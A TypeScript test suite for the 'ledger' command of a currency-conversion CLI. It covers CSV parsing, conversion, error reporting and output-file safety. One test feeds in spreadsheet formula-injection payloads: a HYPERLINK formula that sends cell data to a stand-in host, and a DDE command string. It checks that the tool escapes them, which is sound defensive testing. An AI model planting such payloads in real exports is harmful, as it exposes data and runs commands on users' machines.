import { spawnSync } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { chmodSync, createReadStream, existsSync, linkSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { renderHelp } from '../../src/cli/args/renderHelp.js';
import { COMMANDS } from '../../src/cli/commands/registry.js';
import { convertLedger } from '../../src/cli/ledger/convertLedger.js';
import { csvRecords } from '../../src/cli/ledger/csvRecords.js';
import { runCli } from '../../src/cli/runCli.js';
import { defaultDataset } from '../../src/data.js';
import { importNbp } from '../../src/feeds/nbp/nbp.js';
import { convert, loadDataset } from '../../src/index.js';
import { bankFile } from '../importers/banks/recorded.js';
import { catalog } from '../importers/catalog.js';

const dir = mkdtempSync(join(tmpdir(), 'ratebook-ledger-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function ratebook(...argv: string[]) {
  let stdout = '';
  let stderr = '';
  const status = await runCli(argv, { stdout: (text) => void (stdout += text), stderr: (text) => void (stderr += text) });
  return { status, stdout, stderr };
}

function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

const S = { numbers: 'string' } as const;
const INVOICES = [
  'id,amount,currency,date',
  'A-1,19.99,USD,2025-06-02',
  'A-2,1000,JPY,2025-01-15',
  '"B,3",250.5,gbp,2026-03-02',
  'A-4,100,EUR,2025-12-31',
  '',
].join('\r\n');

describe('ratebook ledger', () => {
  it("writes every row in order with rate, rate_date and result, each convert()'s at the row's date", async () => {
    const { status, stdout, stderr } = await ratebook('ledger', file('invoices.csv', INVOICES), '--to', 'EUR');
    expect([status, stderr]).toEqual([0, '']);
    const lines = stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('id,amount,currency,date,rate,rate_date,result,stale');
    const rows: [string, string, string, string][] = [
      ['A-1', '19.99', 'USD', '2025-06-02'],
      ['A-2', '1000', 'JPY', '2025-01-15'],
      ['B,3', '250.5', 'gbp', '2026-03-02'],
      ['A-4', '100', 'EUR', '2025-12-31'],
    ];
    rows.forEach(([id, amount, from, date], i) => {
      const c = convert(defaultDataset, { from, to: 'EUR', amount, date }, S);
      expect(lines[i + 1]).toBe(`${id.includes(',') ? `"${id}"` : id},${amount},${from},${date},${c.rate},${c.date},${c.result},${c.stale === true}`);
    });
    expect(lines).toHaveLength(5);
  });

  it('rounds with --round and --rounding, and adds the receipt as JSON with --explain', async () => {
    const { status, stdout } = await ratebook('ledger', file('round.csv', INVOICES), '--to', 'CHF', '--round', 'cash', '--rounding', 'half-up', '--explain');
    expect(status).toBe(0);
    const lines = stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('id,amount,currency,date,rate,rate_date,result,stale,receipt');
    const c = convert(
      defaultDataset,
      { from: 'USD', to: 'CHF', amount: '19.99', date: '2025-06-02' },
      { ...S, round: 'cash', rounding: 'half-up', explain: true },
    );
    const [record] = await collect(lines[1]!);
    expect(record!.slice(4)).toEqual([c.rate, c.date, c.result, 'false', JSON.stringify(c.source)]);
  });

  it('reads other column names, and writes to --out', async () => {
    const csv = file('named.csv', 'Betrag;x,Währung,Datum\n"12,5",EUR,2025-06-02\n'.replace(';x', ''));
    const out = join(dir, 'named-out.csv');
    const { status, stdout } = await ratebook(
      'ledger',
      csv,
      '--to',
      'USD',
      '--amount-column',
      'Betrag',
      '--currency-column',
      'Währung',
      '--date-column',
      'Datum',
      '--out',
      out,
    );
    expect([status, stdout]).toEqual([1, '']); // "12,5" is no amount: reported, the row kept
    expect(readFileSync(out, 'utf8')).toBe('Betrag,Währung,Datum,rate,rate_date,result,stale\n"12,5",EUR,2025-06-02,,,,\n');
  });

  it('reports bad rows on stderr by line number, converts the rest, and exits 1', async () => {
    const csv = file(
      'bad.csv',
      [
        'amount,currency,date',
        '10,USD,2025-06-02',
        '10,XYZ,2025-06-02',
        'ten,USD,2025-06-02',
        '10,USD,1990-01-01',
        '10,USD',
        '',
        '10,USD,',
        '"10,USD,2025-06-02',
        '',
      ].join('\n'),
    );
    const { status, stdout, stderr } = await ratebook('ledger', csv, '--to', 'EUR');
    expect(status).toBe(1);
    const out = stdout.trimEnd().split('\n');
    expect(out).toHaveLength(8);
    expect(out[1]).toMatch(/^10,USD,2025-06-02,[0-9.]+,2025-06-02,[0-9.]+,false$/);
    expect(out.slice(2)).toEqual([
      '10,XYZ,2025-06-02,,,,',
      'ten,USD,2025-06-02,,,,',
      '10,USD,1990-01-01,,,,',
      '"10,USD",,,,,,', // too few cells: its text in the first column, every column where it belongs
      '10,USD,,,,,',
      '"""10,USD,2025-06-02",,,,,,',
    ]);
    const reported = stderr.trimEnd().split('\n');
    expect(reported.slice(0, -1).map((line) => /^ratebook: line (\d+): (\w+):/.exec(line)?.slice(1))).toEqual([
      ['3', 'unknown_currency'],
      ['4', 'invalid_parameter'],
      ['5', 'date_out_of_range'],
      ['6', 'invalid_parameter'],
      ['8', 'missing_parameter'],
      ['9', 'invalid_parameter'],
    ]);
    expect(reported.at(-1)).toBe('ratebook: invalid_parameter: 6 of 7 rows could not be converted (lines above); the others were.');
  });

  it('refuses a file without the columns, an unknown target, and a file it cannot read, before any row', async () => {
    expect(await ratebook('ledger', file('cols.csv', 'value,code,day\n1,USD,2025-06-02\n'), '--to', 'EUR')).toMatchObject({
      status: 1,
      stdout: '',
      stderr: expect.stringContaining('--amount-column'),
    });
    expect(await ratebook('ledger', file('to.csv', INVOICES), '--to', 'XYZ')).toMatchObject({
      status: 1,
      stdout: '',
      stderr: expect.stringContaining('unknown_currency'),
    });
    expect(await ratebook('ledger', join(dir, 'missing.csv'), '--to', 'EUR')).toMatchObject({ status: 1, stderr: expect.stringContaining('cannot read') });
    expect((await ratebook('ledger', file('empty.csv', ''), '--to', 'EUR')).stderr).toContain('a header line is needed');
    expect((await ratebook('ledger', file('x.csv', INVOICES))).status).toBe(1); // --to is required
  });

  it('converts a 100,000-row file, every row, streaming', async () => {
    const codes = ['USD', 'JPY', 'GBP', 'CHF', 'SEK', 'PLN', 'CZK', 'CAD', 'AUD', 'EUR'];
    const lines = ['invoice,amount,currency,date'];
    for (let i = 0; i < 100_000; i++) {
      const day = new Date(Date.UTC(2024, 3, 1) + (i % 700) * 86_400_000).toISOString().slice(0, 10);
      lines.push(`INV-${i},${(i % 9973) + 0.01 * (i % 100)},${codes[i % codes.length]},${day}`);
    }
    const input = file('big.csv', `${lines.join('\n')}\n`);
    const out = join(dir, 'big-out.csv');
    const started = performance.now();
    const { status, stderr } = await ratebook('ledger', input, '--to', 'EUR', '--round', 'minor', '--out', out);
    const seconds = (performance.now() - started) / 1000;
    expect([status, stderr]).toEqual([0, '']);
    const written = readFileSync(out, 'utf8').trimEnd().split('\n');
    expect(written).toHaveLength(100_001);
    expect(written.every((line, i) => i === 0 || /^INV-\d+,[^,]+,[A-Z]{3},\d{4}-\d\d-\d\d,[0-9.e-]+,\d{4}-\d\d-\d\d,-?[0-9.]+,(true|false)$/.test(line))).toBe(
      true,
    );
    expect(written[100_000]!.startsWith('INV-99999,')).toBe(true);
    // Measured for the record, never asserted: see the report.
    console.log(`ledger: 100,000 rows in ${seconds.toFixed(2)} s, ${Math.round(100_000 / seconds).toLocaleString('en')} rows/s`);
  }, 120_000);

  it('calls progress every 5,000 rows, so a terminal sees the run advance', async () => {
    const lines = ['amount,currency,date', ...Array.from({ length: 12_000 }, () => '1,USD,2025-06-02')];
    const counts: number[] = [];
    let written = 0;
    const result = await convertLedger({
      dataset: defaultDataset,
      records: csvRecords(createReadStream(file('progress.csv', `${lines.join('\n')}\n`))),
      to: 'EUR',
      columns: { amount: 'amount', currency: 'currency', date: 'date' },
      write: (text) => void (written += text.split('\n').length - 1),
      report: () => undefined,
      progress: (rows) => counts.push(rows),
    });
    expect([result, counts, written]).toEqual([{ rows: 12_000, bad: 0 }, [5_000, 10_000], 12_001]);
  });

  it('runs the examples of its help, from a directory with invoices.csv (built program)', () => {
    const cli = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));
    const cwd = mkdtempSync(join(dir, 'examples-'));
    writeFileSync(join(cwd, 'invoices.csv'), INVOICES);
    const examples = renderHelp(['ledger'], COMMANDS)
      .split('\n')
      .map((line) => /^\s*ratebook (.*)$/.exec(line)?.[1])
      .filter((line): line is string => line !== undefined);
    expect(examples).toHaveLength(2);
    for (const example of examples) {
      const { status, stderr } = spawnSync(process.execPath, [cli, ...example.split(' ')], { cwd, encoding: 'utf8' });
      expect([example, status, stderr]).toEqual([example, 0, '']);
    }
    expect(readFileSync(join(cwd, 'booked.csv'), 'utf8').split('\n')[0]).toBe('id,amount,currency,date,rate,rate_date,result,stale');
  });
});

async function collect(text: string): Promise<(readonly string[])[]> {
  const out: (readonly string[])[] = [];
  for await (const record of csvRecords(Readable.from([text.endsWith('\n') ? text : `${text}\n`]))) out.push(record.cells!);
  return out;
}

describe('ratebook ledger keeps every row', () => {
  for (const rows of [2_000, 20_000]) {
    it(`converts every other row of ${rows.toLocaleString('en')} with a stray quote on line 3, which it reports`, async () => {
      const lines = ['id,amount,currency,date', ...Array.from({ length: rows }, (_, i) => `A-${i},10,USD,2025-06-02`)];
      lines[2] = `"${lines[2]}`;
      const { status, stdout, stderr } = await ratebook('ledger', file(`stray-${rows}.csv`, `${lines.join('\n')}\n`), '--to', 'EUR');
      expect(status).toBe(1);
      const reported = stderr.trimEnd().split('\n');
      expect(reported).toEqual([
        'ratebook: line 3: invalid_parameter: the record does not parse as CSV: the file ends inside a quoted field.',
        `ratebook: invalid_parameter: 1 of ${rows} rows could not be converted (lines above); the others were.`,
      ]);
      const out = stdout.trimEnd().split('\n');
      expect(out).toHaveLength(rows + 1);
      expect(out[2]).toBe('"""A-1,10,USD,2025-06-02",,,,,,,');
      const c = convert(defaultDataset, { from: 'USD', to: 'EUR', amount: '10', date: '2025-06-02' }, S);
      expect(out.filter((line, i) => i > 0 && i !== 2 && line === `A-${i - 1},10,USD,2025-06-02,${c.rate},${c.date},${c.result},false`)).toHaveLength(rows - 1);
    });
  }

  it('reports a short row and a long one, and writes them without shifting a column', async () => {
    const csv = file('short.csv', 'id,amount,currency,date\nA-1,10,USD\nA-2,10,USD,2025-06-02,x\nA-3,10,USD,2025-06-02\n');
    const { status, stdout, stderr } = await ratebook('ledger', csv, '--to', 'EUR');
    expect(status).toBe(1);
    expect(stderr).toContain('ratebook: line 2: invalid_parameter: the record does not parse as CSV: it has 3 fields, the header 4.');
    expect(stderr).toContain('ratebook: line 3: invalid_parameter: the record does not parse as CSV: it has 5 fields, the header 4.');
    const records = await collect(stdout);
    expect(records.map((r) => r.length)).toEqual([8, 8, 8, 8]);
    expect(records.slice(1, 3)).toEqual([
      ['A-1,10,USD', '', '', '', '', '', '', ''],
      ['A-2,10,USD,2025-06-02,x', '', '', '', '', '', '', ''],
    ]);
    expect(records[3]!.slice(0, 4)).toEqual(['A-3', '10', 'USD', '2025-06-02']);
  });

  it('keeps CRLF, CR and LF inside quoted cells as written', async () => {
    const csv = file('breaks.csv', 'memo,amount,currency,date\r\n"a\r\nb",1,USD,2025-06-02\r\n"c\rd",1,USD,2025-06-02\r\n"e\nf",1,USD,2025-06-02\r\n');
    const { status, stdout } = await ratebook('ledger', csv, '--to', 'EUR');
    expect(status).toBe(0);
    expect(stdout).toContain('\n"a\r\nb",1,USD,');
    expect(stdout).toContain('\n"c\rd",1,USD,');
    expect(stdout).toContain('\n"e\nf",1,USD,');
    expect((await collect(stdout)).map((r) => r[0])).toEqual(['memo', 'a\r\nb', 'c\rd', 'e\nf']);
  });

  it("writes a cell a spreadsheet would run as a formula with a leading ', and numbers as they are", async () => {
    const cells = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '-2+3', '\r=1'];
    const csv = file('formulas.csv', `memo,amount,currency,date\n${cells.map((c) => `${csvQuote(c)},-12.5,USD,2025-06-02`).join('\n')}\n`);
    const { status, stdout } = await ratebook('ledger', csv, '--to', 'EUR');
    expect(status).toBe(0);
    const records = (await collect(stdout)).slice(1);
    expect(records.map((r) => r[0])).toEqual(cells.map((c) => `'${c}`));
    expect(records.every((r) => r[1] === '-12.5' && /^-[0-9.]+$/.test(r[6]!))).toBe(true);
  });

  it('adds stale (true past the data, as convert says), refuses with --max-age-days, and passes --policy to convert', async () => {
    const csv = file('stale.csv', 'amount,currency,date\n10,USD,2025-06-02\n10,USD,2026-12-01\n');
    const plain = await ratebook('ledger', csv, '--to', 'EUR');
    expect(plain.status).toBe(0);
    const late = convert(defaultDataset, { from: 'USD', to: 'EUR', amount: '10', date: '2026-12-01' }, S);
    expect(late.stale).toBe(true);
    expect(
      plain.stdout
        .split('\n')
        .slice(1, 3)
        .map((line) => line.split(',').at(-1)),
    ).toEqual(['false', 'true']);
    expect(plain.stdout.split('\n')[2]).toBe(`10,USD,2026-12-01,${late.rate},${late.date},${late.result},true`);
    const bounded = await ratebook('ledger', csv, '--to', 'EUR', '--max-age-days', '7');
    expect(bounded.status).toBe(1);
    expect(bounded.stderr).toMatch(/^ratebook: line 3: stale_rate: /);
    expect(bounded.stdout.split('\n')[2]).toBe('10,USD,2026-12-01,,,,');
    expect(await ratebook('ledger', csv, '--to', 'EUR', '--max-age-days', 'week')).toMatchObject({
      status: 1,
      stdout: '',
      stderr: expect.stringContaining('invalid_option'),
    });
    expect(await ratebook('ledger', csv, '--to', 'EUR', '--policy', 'pl-pti')).toMatchObject({
      status: 1,
      stdout: '',
      stderr: expect.stringContaining('invalid_option'),
    });
    expect(await ratebook('ledger', csv, '--to', 'EUR', '--policy', 'pl-pit', '--max-age-days', '7')).toMatchObject({
      status: 1,
      stdout: '',
      stderr: expect.stringContaining('invalid_option'),
    });
  });

  it('books each row under --policy exactly as convert does with the policy', async () => {
    const nbp = importNbp(
      ['nbp/nbp-1.json', 'nbp/nbp-2.json'].map((f) => ({ name: f.slice(4), bytes: bankFile(f) })),
      { metadata: catalog, allowMinimalMetadata: true },
    ).dataset;
    const data = file('nbp.json', JSON.stringify(nbp));
    const ds = loadDataset(nbp);
    const csv = file('policy.csv', 'amount,currency,date\n100,EUR,2026-03-04\n250.5,USD,2026-03-03\n');
    const { status, stdout, stderr } = await ratebook('ledger', csv, '--to', 'PLN', '--policy', 'pl-pit', '--round', 'minor', '--data', data);
    expect([status, stderr]).toEqual([0, '']);
    const rows = stdout.trimEnd().split('\n').slice(1);
    [
      ['100', 'EUR', '2026-03-04'],
      ['250.5', 'USD', '2026-03-03'],
    ].forEach(([amount, from, date], i) => {
      const c = convert(ds, { from: from!, to: 'PLN', amount: amount!, date: date! }, { ...S, policy: 'pl-pit', round: 'minor' });
      expect(rows[i]).toBe(`${amount},${from},${date},${c.rate},${c.date},${c.result},${c.stale === true}`);
    });
  });
});

describe('ratebook ledger keeps every file', () => {
  it('refuses --out naming the input, by any spelling or link, before reading it, and leaves it byte for byte', async () => {
    const input = file('self.csv', INVOICES);
    symlinkSync(input, join(dir, 'self-link.csv'));
    linkSync(input, join(dir, 'self-hard.csv'));
    for (const out of [input, join(dir, '.', 'sub', '..', 'self.csv'), join(dir, 'self-link.csv'), join(dir, 'self-hard.csv')]) {
      const { status, stdout, stderr } = await ratebook('ledger', input, '--to', 'EUR', '--out', out);
      expect([status, stdout]).toEqual([2, '']);
      expect(stderr).toMatch(/^ratebook: invalid_parameter: --out .* is the input .*\n$/);
      expect(readFileSync(input, 'utf8')).toBe(INVOICES);
    }
  });

  it('leaves an existing --out as it was when the run fails, and no temporary file beside it', async () => {
    const folder = mkdtempSync(join(dir, 'keep-'));
    const out = join(folder, 'booked.csv');
    writeFileSync(out, 'the books of last year\n');
    const noColumns = join(folder, 'cols.csv');
    writeFileSync(noColumns, 'value,code,day\n1,USD,2025-06-02\n');
    expect((await ratebook('ledger', noColumns, '--to', 'EUR', '--out', out)).status).toBe(1);
    expect((await ratebook('ledger', join(folder, 'INVOICES.csv'), '--to', 'EUR', '--out', out)).status).toBe(1);
    expect((await ratebook('ledger', noColumns, '--to', 'XYZ', '--out', out)).status).toBe(1);
    expect(readFileSync(out, 'utf8')).toBe('the books of last year\n');
    expect(readdirSync(folder).sort()).toEqual(['booked.csv', 'cols.csv']);
    // A run that completes replaces it whole.
    expect((await ratebook('ledger', file('replace.csv', INVOICES), '--to', 'EUR', '--out', out)).status).toBe(0);
    expect(readFileSync(out, 'utf8').split('\n')).toHaveLength(6);
    expect(readdirSync(folder).sort()).toEqual(['booked.csv', 'cols.csv']);
  });

  const unwritable: [string, () => string][] = [
    ['a missing folder', () => join(dir, 'no-such-folder', 'out.csv')],
    ['a path through a file', () => join(file('plain.txt', 'x'), 'out.csv')],
    ['a folder', () => dir],
    ['a read-only folder', () => readOnlyFolder()],
  ];
  if (existsSync('/dev/full')) unwritable.push(['/dev/full', () => '/dev/full']);
  for (const [name, out] of unwritable) {
    it(`answers an unwritable output (${name}) with one line and exit 2, never a stack trace`, async () => {
      const path = out();
      const { status, stdout, stderr } = await ratebook('ledger', file('w.csv', INVOICES), '--to', 'EUR', '--out', path);
      expect([status, stdout]).toEqual([2, '']);
      expect(stderr).toMatch(/^ratebook: invalid_parameter: cannot write .+: E[A-Z]+ \([a-z /-]+\); nothing was written\.\n$/);
    });
  }
});

// A folder this process cannot write to: read-only by its mode, or, for root (whom modes do not stop), /sys's.
function readOnlyFolder(): string {
  if (process.getuid?.() === 0) return '/sys/ratebook-ledger.csv';
  const folder = mkdtempSync(join(dir, 'ro-'));
  chmodSync(folder, 0o555);
  return join(folder, 'out.csv');
}

function csvQuote(cell: string): string {
  return /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}

describe('properties', () => {
  const memo = fc.string({ unit: fc.constantFrom('a', ' ', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', '1'), maxLength: 6 });
  const row = fc.record({
    memo,
    amount: fc.constantFrom('10', '19.99', '-12.5', '0.01', 'ten', ''),
    currency: fc.constantFrom('USD', 'JPY', 'gbp', 'CHF', 'XYZ'),
    date: fc.constantFrom('2025-06-02', '2024-01-15', '2026-09-29', '2026-12-01', '1990-01-01', ''),
    // Damage on one-line rows only: a damaged record spanning lines is read again from its second line.
    shape: fc.constantFrom('ok', 'ok', 'ok', 'short', 'stray'),
  });
  const formula = (cell: string) => (/^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell) ? `'${cell}` : cell);

  it('the output has exactly one record per input record, and every converted row is convert() with the same options', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(row, { minLength: 1, maxLength: 25 }),
        fc.constantFrom(undefined, 'minor', 'cash'),
        fc.constantFrom(undefined, '7', '30'),
        fc.constantFrom('\n', '\r\n'),
        async (rows, round, maxAgeDays, eol) => {
          let text = `memo,amount,currency,date${eol}`;
          let line = 2;
          const lines: number[] = [];
          for (const r of rows) {
            const damaged = r.shape !== 'ok' && !/[\r\n]/.test(r.memo);
            const cells = [csvQuote(r.memo), damaged && r.shape === 'stray' ? `x"${r.amount}` : r.amount, r.currency, r.date];
            const record = (damaged && r.shape === 'short' ? cells.slice(0, 3) : cells).join(',');
            lines.push(line);
            line += 1 + (record.match(/\r\n|\r|\n/g)?.length ?? 0);
            text += record + eol;
          }
          let written = '';
          const reported: number[] = [];
          const result = await convertLedger({
            dataset: defaultDataset,
            records: csvRecords(Readable.from([text])),
            to: 'EUR',
            columns: { amount: 'amount', currency: 'currency', date: 'date' },
            ...(round === undefined ? {} : { round: round as 'minor' | 'cash' }),
            ...(maxAgeDays === undefined ? {} : { maxAgeDays }),
            write: (t) => void (written += t),
            report: (at) => void reported.push(at),
          });
          const out = parse(written, { record_delimiter: '\n' }) as string[][];
          expect(out).toHaveLength(rows.length + 1);
          expect(result.rows).toBe(rows.length);
          const options = { ...S, ...(round === undefined ? {} : { round }), ...(maxAgeDays === undefined ? {} : { maxAgeDays: Number(maxAgeDays) }) };
          rows.forEach((r, i) => {
            const cells = out[i + 1]!;
            expect(cells).toHaveLength(8);
            if (r.shape !== 'ok' && !/[\r\n]/.test(r.memo)) {
              expect(cells.slice(1)).toEqual(['', '', '', '', '', '', '']);
              expect(reported).toContain(lines[i]);
              return;
            }
            expect(cells.slice(0, 4)).toEqual([formula(r.memo), formula(r.amount), r.currency, r.date]);
            let c: { rate: string; date: string; result: string; stale?: true } | undefined;
            try {
              c = convert(defaultDataset, { from: r.currency, to: 'EUR', amount: r.amount, date: r.date }, options as never) as unknown as typeof c;
            } catch {
              c = undefined;
            }
            if (r.date === '' || c === undefined) {
              expect(cells.slice(4)).toEqual(['', '', '', '']);
              expect(reported).toContain(lines[i]);
            } else {
              expect(cells.slice(4)).toEqual([c.rate, c.date, c.result, String(c.stale === true)]);
              expect(reported).not.toContain(lines[i]);
            }
          });
          expect(reported).toHaveLength(result.bad);
        },
      ),
      { numRuns: 60 },
    );
  });
});
